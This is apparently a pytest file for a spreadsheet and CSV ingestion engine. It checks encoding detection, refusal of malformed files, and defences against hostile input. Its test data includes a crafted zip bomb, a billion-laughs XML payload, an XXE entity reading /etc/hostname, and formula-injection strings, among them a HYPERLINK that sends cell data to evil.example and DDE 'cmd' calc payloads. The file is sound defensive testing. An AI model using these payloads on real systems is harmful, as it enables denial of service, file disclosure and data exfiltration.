"""Input is read right, or refused with a reason — never garbled and called a success (issue 19 §3).

Checks 25 (`test_xml_entity_attacks`), 26 (`test_zip_bomb_rejected_before_parse`), 27 (`test_not_a_workbook`),
28 (`test_csv_encodings_and_shapes`) and 29 (`test_no_formula_injection_in_output`) of the reliability and
security checks, plus the cases the issue found:
UTF-16 and Shift-JIS text read as cp1252, an unterminated quote that swallowed every row below it, a valid
workbook whose parts are not under `xl/`, and a sheet crafted to hold millions of cells in a few bytes.
Jobs run through the real CLI (`ade run`, `ade job submit`) in subprocesses, as a user meets them.
"""

from __future__ import annotations

import codecs
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from openpyxl import load_workbook

import badfiles
from sandbox_helpers import IS_ROOT, JOB_PYTHON, job_user_env

from ade_engine.errors import InputError
from ade_engine.runtime.gate import inspect_input
from ade_engine.runtime.readers import open_workbook

ROSTER = "member_roster"
REPO = Path(__file__).resolve().parents[2]


def _members(cities: list[str], first: list[str] | None = None, sep: str = ",") -> str:
    """A member list the sample roster package recognizes; the City column is carried to the output as is."""
    first = first or ["Zoë", "José", "Ann"]
    rows = [["Member ID", "First Name", "Last Name", "Email", "City"]]
    rows += [[f"M-{100 + i}", first[i % len(first)], "Berg", f"m{i}@example.com", city]
             for i, city in enumerate(cities)]
    return "".join(sep.join(r) + "\n" for r in rows)


WESTERN = _members(["Montréal", "Québec", "à bientôt — 5 €", "Zürich"])
JAPANESE = _members(["東京", "大阪", "ｶﾀｶﾅも読める"], first=["太郎", "花子"])  # a few kanji: cp932 or cp949?
JAPANESE_PROSE = _members(["東京 毎月の会費を支払い済み", "大阪 住所変更あり", "京都 連絡は電子メールで"],
                          first=["さくら", "はると", "あおい"])


def _cells(out: Path) -> list[str]:
    wb = load_workbook(out / "normalized.xlsx", read_only=True)
    try:
        return [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    finally:
        wb.close()


def _run(run_ade, sample_configs, tmp_path: Path, src: Path, *extra: str, config: Path | None = None):
    """`ade run SRC --json` → (exit status, artifact or None, the job dir)."""
    out = tmp_path / f"out-{src.stem}"
    proc = run_ade("run", src, "--config", config or sample_configs / ROSTER, "--out", out, "--json", *extra)
    art_path = out / "artifact.json"
    art = json.loads(art_path.read_text()) if art_path.exists() else None
    return proc, art, out


# ------------------------------------------------------------------------------------------------- check 28
def _shapes() -> list:
    big = "x" * 200_000
    return [
        # id, file name, bytes, extra args, encoding, source, strings the output must hold
        ("utf-8", "plain.csv", WESTERN.encode("utf-8"), (), "utf-8", "detected", ["Montréal", "Zürich"]),
        ("utf-8-bom", "bom.csv", codecs.BOM_UTF8 + WESTERN.encode("utf-8"), (), "utf-8", "bom",
         ["Montréal", "à bientôt — 5 €"]),
        ("utf-16-tsv", "export.tsv", codecs.BOM_UTF16_LE + WESTERN.replace(",", "\t").encode("utf-16-le"), (),
         "utf-16", "bom", ["Montréal", "Québec", "Member ID"]),
        ("utf-16-no-bom", "export.csv", WESTERN.encode("utf-16-le"), (), "utf-16-le", "detected", ["Québec"]),
        ("cp1252", "villes.csv", WESTERN.encode("cp1252"), (), "windows-1252", "detected",
         ["Montréal", "à bientôt — 5 €", "Zürich"]),
        ("shift-jis-detected", "meibo.csv", JAPANESE_PROSE.encode("shift_jis"), (), "cp932", "detected",
         ["東京 毎月の会費を支払い済み", "京都 連絡は電子メールで"]),
        ("shift-jis-override", "meibo2.csv", JAPANESE.encode("shift_jis"), ("--encoding", "shift_jis"),
         "shift_jis", "override", ["東京", "ｶﾀｶﾅも読める"]),
        ("nul-bytes", "nul.csv", _members(["Os\x00lo", "Rome"]).encode(), (), "utf-8", "detected", ["Oslo", "Rome"]),
        ("200k-field", "wide.csv", _members([big, "short"]).encode(), (), "utf-8", "detected", ["short"]),
    ]


@pytest.mark.parametrize(("name", "data", "extra", "encoding", "source", "expected"),
                         [s[1:] for s in _shapes()], ids=[s[0] for s in _shapes()])
def test_csv_encodings_and_shapes(tmp_path, run_ade, sample_configs, name, data, extra, encoding, source, expected):
    src = tmp_path / name
    src.write_bytes(data)
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src, *extra)
    assert proc.returncode == 0, (proc.stdout, proc.stderr)
    inp = art["input"]
    assert (inp["encoding"], inp["encoding_source"]) == (encoding, source)
    if source == "override":
        assert "encoding_confidence" not in inp  # given, not guessed
    else:
        assert 0 < inp["encoding_confidence"] <= 1
    cells = _cells(out)
    for text in expected:
        assert text in cells, (text, cells[:20])
    assert not any("\ufffd" in c or "Ã" in c or "ÿþ" in c for c in cells)  # nothing garbled
    kinds = {e["kind"] for e in art["rule_errors"]}
    if name == "wide.csv":  # read whole; the writer cuts it at Excel's cell limit and says so
        assert "value_truncated" in kinds
    if name == "nul.csv":  # read; the writer drops the NUL a workbook cannot hold and says so
        assert "control_chars_removed" in kinds


def test_ambiguous_encoding_is_refused_not_guessed(tmp_path, run_ade, sample_configs):
    """A few kanji in Shift-JIS read as Korean in cp949 as well as Japanese in cp932: refused, naming both."""
    src = tmp_path / "meibo.csv"
    src.write_bytes(JAPANESE.encode("shift_jis"))
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src)
    assert proc.returncode == 1
    err = art["error"]
    assert err["code"] == "input_encoding" and "ambiguous" in err["message"]
    assert "cp932" in err["message"] and "cp949" in err["message"] and "--encoding" in err["message"]
    assert not (out / "normalized.xlsx").exists()


def test_unterminated_quote_fails_naming_its_line(tmp_path, run_ade, sample_configs):
    src = tmp_path / "members.csv"
    src.write_text(_members(["Oslo", '"this quote never closes', "Rome", "Bern", "Riga"]), encoding="utf-8")
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src)
    assert proc.returncode == 1
    assert art["error"]["code"] == "input_malformed"
    assert "line 3" in art["error"]["message"] and "never closed" in art["error"]["message"]
    assert not (out / "normalized.xlsx").exists()


def test_multiline_quoted_field_at_the_end_is_still_read(tmp_path):
    src = tmp_path / "notes.csv"
    src.write_text('Name,Note\nAnn,"two\nlines"\n', encoding="utf-8")
    info = inspect_input(src, src.name)
    with open_workbook(src, info) as reader:
        assert list(reader.iter_rows(reader.sheets()[0])) == [(1, ["Name", "Note"]), (2, ["Ann", "two\nlines"])]


def test_bytes_that_do_not_decode_fail_naming_line_and_byte(tmp_path, run_ade, sample_configs):
    # UTF-8 for the first MiB and more (so the detector says UTF-8), then one Windows-1252 line.
    head = _members(["Oslo"] * 40_000)
    src = tmp_path / "late.csv"
    src.write_bytes(head.encode() + "M-9,Zoë,Berg,z@example.com,Montréal\n".encode("cp1252"))
    assert len(head) > 1024 * 1024
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src)
    assert proc.returncode == 1
    err = art["error"]
    assert err["code"] == "input_encoding"
    assert "line 40,002" in err["message"] and "not valid utf-8" in err["message"] and "--encoding" in err["message"]
    assert not (out / "normalized.xlsx").exists()
    # A wrong encoding given by the user is no better: the same clear refusal, naming who chose it.
    src2 = tmp_path / "villes.csv"
    src2.write_bytes(WESTERN.encode("cp1252"))
    proc, art, _ = _run(run_ade, sample_configs, tmp_path, src2, "--encoding", "utf-8")
    assert proc.returncode == 1 and art["error"]["code"] == "input_encoding"
    assert "line 2" in art["error"]["message"] and "--encoding" in art["error"]["message"]


def test_unknown_encoding_name_is_refused_before_the_job(tmp_path, run_ade, sample_configs):
    src = tmp_path / "plain.csv"
    src.write_text(WESTERN, encoding="utf-8")
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src, "--encoding", "klingon")
    assert proc.returncode == 2 and art is None
    err = json.loads(proc.stdout)["error"]
    assert err["code"] == "input_encoding" and "klingon" in err["message"] and "windows-1252" in err["message"]


def test_manifest_encoding_is_the_default_and_the_run_option_wins(tmp_path, run_ade, sample_configs):
    pkg = tmp_path / "pkg"
    shutil.copytree(sample_configs / ROSTER, pkg, ignore=shutil.ignore_patterns("__pycache__"))
    manifest = json.loads((pkg / "manifest.json").read_text())
    manifest.setdefault("engine", {})["input"] = {"encoding": "shift_jis"}
    (pkg / "manifest.json").write_text(json.dumps(manifest, indent=2))
    src = tmp_path / "meibo.csv"
    src.write_bytes(JAPANESE.encode("shift_jis"))
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src, config=pkg)
    assert proc.returncode == 0, proc.stderr
    assert (art["input"]["encoding"], art["input"]["encoding_source"]) == ("shift_jis", "manifest")
    assert "東京" in _cells(out)
    utf8 = tmp_path / "plain.csv"
    utf8.write_text(WESTERN, encoding="utf-8")
    proc, art, out = _run(run_ade, sample_configs, tmp_path, utf8, "--encoding", "utf-8", config=pkg)
    assert proc.returncode == 0, proc.stderr
    assert (art["input"]["encoding"], art["input"]["encoding_source"]) == ("utf-8", "override")
    assert "Montréal" in _cells(out)


# ------------------------------------------------------------------------------------ ade job submit --encoding
def _env(data: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ADE_")}
    env.update(job_user_env() if IS_ROOT else {})
    env.update({"ADE_DATA_DIR": str(data), "ADE_SAMPLE_CONFIGS_DIR": str(REPO / "sample_configs")})
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(REPO), env.get("PYTHONPATH")]))
    return env


def _ade(env: dict[str, str], *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "ade_engine.cli.main", *map(str, args)], env=env,
                          capture_output=True, text=True, timeout=180, cwd=REPO)


def test_job_submit_encoding_is_kept_by_the_queued_job_and_its_retry(tmp_path):
    from ade_engine.jobs.worker import Worker
    from ade_engine.services import jobs
    from ade_engine.services.workspace import open_workspace
    from ade_engine.settings import isolated_settings

    data = tmp_path / "data"
    env = _env(data)
    src = tmp_path / "meibo.csv"
    src.write_bytes(JAPANESE.encode("shift_jis"))
    bad = _ade(env, "job", "submit", src, "--encoding", "klingon", "--json")
    assert bad.returncode != 0 and "klingon" in bad.stdout + bad.stderr
    sub = _ade(env, "job", "submit", src, "--encoding", "shift_jis", "--json")
    assert sub.returncode == 0, sub.stderr
    job_id = json.loads(sub.stdout)["job"]["job_id"]
    # The same document with a wrong encoding is another job (the option is part of its identity).
    wrong = _ade(env, "job", "submit", src, "--encoding", "utf-8", "--json")
    assert wrong.returncode == 0, wrong.stderr
    wrong_id = json.loads(wrong.stdout)["job"]["job_id"]
    assert wrong_id != job_id

    extra = {"job_user": "nobody", "job_python": JOB_PYTHON} if IS_ROOT else {}
    with open_workspace(isolated_settings(data, sample_configs_dir=REPO / "sample_configs", **extra)) as ws:
        Worker(ws, concurrency=1).run(once=True)
        done = jobs.show_job(ws, job_id)
        assert done.status == "succeeded", (done.error_code, done.error_message)
        assert done.input_encoding == "shift_jis"
        art = json.loads(Path(done.artifact_path).read_text())
        assert (art["input"]["encoding"], art["input"]["encoding_source"]) == ("shift_jis", "override")
        failed = jobs.show_job(ws, wrong_id)
        assert (failed.status, failed.error_code) == ("failed", "input_encoding")
        retry = jobs.retry_job(ws, wrong_id).job
        assert retry.input_encoding == "utf-8"  # a retry runs with the same options


# ------------------------------------------------------------------------------- workbooks: parts not under xl/
def _move_parts(src: Path, dst: Path, folder: str) -> Path:
    """Rewrite an openpyxl workbook so its parts live under `folder` (\"\" = the zip root), as some exporters
    write them: members moved, `_rels/.rels`, the workbook's relationships and [Content_Types].xml fixed."""
    prefix = folder.encode()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            name = info.filename
            if name.endswith((".rels", ".xml")):
                data = data.replace(b'"/xl/', b'"/' + prefix).replace(b'Target="xl/', b'Target="' + prefix)
            if name.startswith("xl/"):
                name = folder + name[3:]
            zout.writestr(name, data)
    return dst


@pytest.mark.parametrize("folder", ["book/", ""], ids=["folder", "zip-root"])
def test_workbook_found_through_package_relationships(tmp_path, run_ade, sample_configs, folder):
    rows = [["Member ID", "First Name", "Last Name", "Email", "City"], ["M-1", "Ann", "Berg", "a@example.com", "Oslo"],
            ["M-2", "Bo", "Lind", "b@example.com", "Montréal"]]
    base = badfiles.simple_workbook(tmp_path, "base.xlsx", rows=rows, sheet="People")
    src = _move_parts(base, tmp_path / "moved.xlsx", folder)
    names = zipfile.ZipFile(src).namelist()
    assert not any(n.startswith("xl/") for n in names)
    # Other readers open it: openpyxl and calamine.
    wb = openpyxl.load_workbook(src, read_only=True)
    assert [list(r) for r in wb["People"].iter_rows(values_only=True)] == rows
    wb.close()
    import python_calamine_plus as pc

    cal = pc.CalamineWorkbook.from_path(str(src))
    assert cal.sheet_names == ["People"]
    cal.close()
    info = inspect_input(src, "moved.xlsx")
    assert (info.format, info.workbook_part) == ("xlsx", f"{folder}workbook.xml")
    for engine in ("calamine", "openpyxl"):
        with open_workbook(src, info, engine=engine) as reader:
            assert [cells for _, cells in reader.iter_rows("People")] == rows
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src)
    assert proc.returncode == 0, proc.stderr
    assert art["input"]["format"] == "xlsx" and "Montréal" in _cells(out)


def test_office_document_that_is_not_a_workbook_still_says_what_it_is(tmp_path):
    path = tmp_path / "letter.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml",
                    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                    'officedocument.wordprocessingml.document.main+xml"/></Types>')
        zf.writestr("_rels/.rels",
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        zf.writestr("word/document.xml", "<document/>")
    with pytest.raises(InputError) as err:
        inspect_input(path, "letter.xlsx")
    assert err.value.code == "input_unsupported" and "Word document" in err.value.message


# ------------------------------------------------------------------------------------------------- check 26
def _zip_bomb(path: Path, mib: int = 2000) -> Path:
    """A 2 MB workbook-shaped zip whose sheet inflates to `mib` MiB of zeros, written by hand (zip64) with a
    real deflate stream and CRC: deflating 2000 MiB takes zipfile half a minute, but a full-flushed deflate
    block of 1 MiB of zeros is the same bytes every time, so it is made once and repeated."""
    import struct

    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(1024 * 1024)
    head = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)  # every later MiB deflates to these bytes
    payload = head + block * (mib - 1) + comp.flush()
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    size = mib * 1024 * 1024
    members = [("[Content_Types].xml", b"<Types/>", 0, zlib.crc32(b"<Types/>"), 8),
               ("xl/workbook.xml", b"<workbook/>", 0, zlib.crc32(b"<workbook/>"), 11),
               ("xl/worksheets/sheet1.xml", payload, 8, crc, size)]
    out, central = bytearray(), bytearray()
    for name, data, method, member_crc, raw_size in members:
        offset, encoded = len(out), name.encode()
        extra = struct.pack("<HHQQ", 1, 16, raw_size, len(data))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, method, 0, 0x21, member_crc, 0xFFFFFFFF, 0xFFFFFFFF,
                           len(encoded), len(extra)) + encoded + extra + data
        cextra = struct.pack("<HHQQQ", 1, 24, raw_size, len(data), offset)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, method, 0, 0x21, member_crc, 0xFFFFFFFF,
                               0xFFFFFFFF, len(encoded), len(cextra), 0, 0, 0, 0, 0xFFFFFFFF) + encoded + cextra
    cd_offset = len(out)
    out += central
    eocd64 = len(out)
    out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 3, 3, len(central), cd_offset)
    out += struct.pack("<IIQI", 0x07064B50, 0, eocd64, 1)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 3, 3, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path.write_bytes(bytes(out))
    return path


def _sheet_bomb(tmp_path: Path, rows: int = 150_000, cols: int = 20) -> Path:
    """A sheet of rows*cols cells (3 M by default) that deflates ~100:1: under the 200:1 ratio budget."""
    body = "".join(f'<row r="{i + 1}">' + "<c><v>1</v></c>" * cols + "</row>" for i in range(rows))
    base = badfiles.simple_workbook(tmp_path, "bomb-base.xlsx")
    return badfiles.rewrite_member(base, tmp_path / "cells.xlsx", "xl/worksheets/sheet1.xml",
                                   lambda x: re.sub(r"<sheetData>.*</sheetData>", f"<sheetData>{body}</sheetData>", x,
                                                    flags=re.S))


def test_zip_bomb_rejected_before_parse(tmp_path, run_ade, sample_configs):
    # 1. A 2 MB zip whose sheet inflates to 2000 MiB: refused from the central directory (ratio budget).
    bomb = _zip_bomb(tmp_path / "bomb.xlsx")
    assert bomb.stat().st_size < 3 * 1024 * 1024
    with zipfile.ZipFile(bomb) as zf:  # a real archive: zipfile would inflate it to 2000 MiB of zeros
        info = zf.getinfo("xl/worksheets/sheet1.xml")
        assert info.file_size == 2000 * 1024 * 1024
        with zf.open(info) as fh:
            assert fh.read(1024 * 1024) == bytes(1024 * 1024)
    proc, art, out = _run(run_ade, sample_configs, tmp_path, bomb)
    assert proc.returncode == 2
    err = json.loads(proc.stdout)["error"]
    assert err["code"] == "input_unreadable" and "ADE_INPUT_MAX_RATIO" in err["message"]

    # 2. Three million cells packed ~100:1 (under the ratio budget): refused by the cell budget, counted
    #    while inflating, before any parser builds a row.
    cells = _sheet_bomb(tmp_path)
    member = zipfile.ZipFile(cells).getinfo("xl/worksheets/sheet1.xml")
    assert 50 < member.file_size / member.compress_size < 200
    with pytest.raises(InputError) as e:
        inspect_input(cells, "cells.xlsx")
    assert e.value.code == "input_unreadable" and e.value.details["budget"] == "cells"
    proc, art, out = _run(run_ade, sample_configs, tmp_path, cells)
    assert proc.returncode == 2 and "cells" in json.loads(proc.stdout)["error"]["message"]
    assert not out.exists() or not (out / "normalized.xlsx").exists()

    # 3. Cells far apart (A1 and XFD1048576): read as the two real cells, not a million padded rows.
    far = badfiles.sheet_with_extra_xml(tmp_path, "far.xlsx",
                                        '<row r="1048576"><c r="XFD1048576" t="n"><v>7</v></c></row>')
    info = inspect_input(far, "far.xlsx")
    with open_workbook(far, info, engine="calamine") as reader:
        rows = list(reader.iter_rows(reader.sheets()[0]))
        assert rows[-1][0] == 1_048_576 and rows[-1][1][-1] == 7 and len(rows[-1][1]) == 16_384
        # the blank run was handed to openpyxl, which skips blank rows instead of yielding each one
        assert reader.engine_used[reader.sheets()[0].name] == "calamine+openpyxl"


def test_real_sheets_are_never_counted_as_bombs(tmp_path):
    """Sheets as real writers make them (about 2 bytes a cell compressed) pass the cell budget untouched."""
    import xlsxwriter

    path = tmp_path / "big.xlsx"
    wb = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    ws = wb.add_worksheet("Data")
    for r in range(60_000):
        ws.write_row(r, 0, [1] * 20)  # the most compressible real sheet: one value everywhere
    wb.close()
    assert inspect_input(path, "big.xlsx").format == "xlsx"


# ------------------------------------------------------------------------------------------------- check 27
@pytest.mark.parametrize(
    ("build", "code", "words"),
    [
        (lambda d: badfiles.not_a_workbook(d, "text", name="data.xlsx"), "input_unsupported", "plain text"),
        (badfiles.empty_file, "input_unreadable", "empty"),
        (lambda d: _truncated(d), "input_unreadable", "truncated"),
        (badfiles.legacy_xls, "input_unsupported", "legacy Excel 97-2003"),
        (lambda d: _renamed(badfiles.legacy_xls(d), "old.xlsx"), "input_unsupported", "legacy Excel 97-2003"),
        (badfiles.encrypted_workbook, "input_unsupported", "password-protected"),
    ],
    ids=["csv-renamed-xlsx", "empty", "truncated", "xls", "xls-renamed-xlsx", "encrypted"],
)
def test_not_a_workbook(tmp_path, run_ade, sample_configs, build, code, words):
    src = build(tmp_path)
    proc = run_ade("run", src, "--config", sample_configs / ROSTER, "--out", tmp_path / "out", "--json")
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr and "BadZipFile" not in proc.stdout + proc.stderr
    err = json.loads(proc.stdout)["error"]
    assert err["code"] == code and words in err["message"], err


def _truncated(d: Path) -> Path:
    full = badfiles.simple_workbook(d, "full.xlsx")
    path = d / "cut.xlsx"
    path.write_bytes(full.read_bytes()[: full.stat().st_size // 2])
    return path


def _renamed(path: Path, name: str) -> Path:
    return path.rename(path.with_name(name))


# ------------------------------------------------------------------------------------------------- check 25
def _entity_workbook(tmp_path: Path, name: str, dtd: str, entity: str) -> Path:
    base = badfiles.simple_workbook(tmp_path, f"{name}-base.xlsx")

    def inject(xml: str) -> str:
        xml = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
        return dtd + xml.replace("<t>Ada</t>", f"<t>{entity}</t>", 1)

    return badfiles.rewrite_member(base, tmp_path / name, "xl/worksheets/sheet1.xml", inject)


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "' + (f"&lol{i - 1};" if i > 1 else "&lol;") * 10 + '">' for i in range(1, 10))
          + "]>")
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'


@pytest.mark.parametrize("defused_env", [None, "False"], ids=["default", "OPENPYXL_DEFUSEDXML=False"])
def test_xml_entity_attacks(tmp_path, run_ade, sample_configs, monkeypatch, defused_env):
    if defused_env is not None:
        monkeypatch.setenv("OPENPYXL_DEFUSEDXML", defused_env)
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else ""
    for name, dtd, entity in (("laughs.xlsx", LAUGHS, "&lol9;"), ("xxe.xlsx", XXE, "&x;")):
        src = _entity_workbook(tmp_path, name, dtd, entity)
        out = tmp_path / f"out-{name}"
        proc = run_ade("run", src, "--config", sample_configs / ROSTER, "--out", out, "--json")
        assert proc.returncode == 2, proc.stderr
        err = json.loads(proc.stdout)["error"]
        assert err["code"] == "input_unreadable" and "unsafe XML" in err["message"]
        left = [p for p in out.rglob("*") if p.is_file()] if out.exists() else []
        if hostname:
            assert hostname not in proc.stdout + proc.stderr
            assert not any(hostname in p.read_text(errors="replace") for p in left)
        # Behind the gate, both readers refuse the entities on their own (defence in depth).
        info = inspect_input(badfiles.simple_workbook(tmp_path, "ok.xlsx"), name)
        for engine in ("calamine", "openpyxl"):
            with pytest.raises(InputError):
                with open_workbook(src, info, engine=engine) as reader:
                    for _ in reader.iter_rows(reader.sheets()[0]):
                        pass


# ------------------------------------------------------------------------------------------------- check 29
def test_no_formula_injection_in_output(tmp_path, run_ade, sample_configs):
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "=1+1"]
    src = tmp_path / "inject.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        import csv

        w = csv.writer(fh)
        w.writerow(["Member ID", "First Name", "Last Name", "Email", "City"])
        for i, p in enumerate(payloads):
            w.writerow([f"M-{i}", "Ann", "Berg", f"m{i}@example.com", p])
    proc, art, out = _run(run_ade, sample_configs, tmp_path, src)
    assert proc.returncode == 0, proc.stderr
    with zipfile.ZipFile(out / "normalized.xlsx") as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        xml = b"".join(zf.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    cells = _cells(out)
    for p in payloads:
        assert p in cells  # kept as text, exactly
